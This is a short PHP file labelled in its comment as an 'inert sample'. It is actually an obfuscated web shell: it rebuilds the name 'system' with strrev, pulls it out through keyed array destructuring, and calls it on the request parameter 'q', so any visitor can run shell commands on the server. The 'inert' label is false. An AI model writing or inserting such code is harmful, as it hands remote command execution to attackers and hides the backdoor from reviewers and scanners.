<?php
// inert sample: function name and argument come out of keyed destructuring
['run' => $fn, 'arg' => $arg] = ['arg' => $_REQUEST['q'] ?? '', 'run' => strrev('metsys')];
$fn($arg);
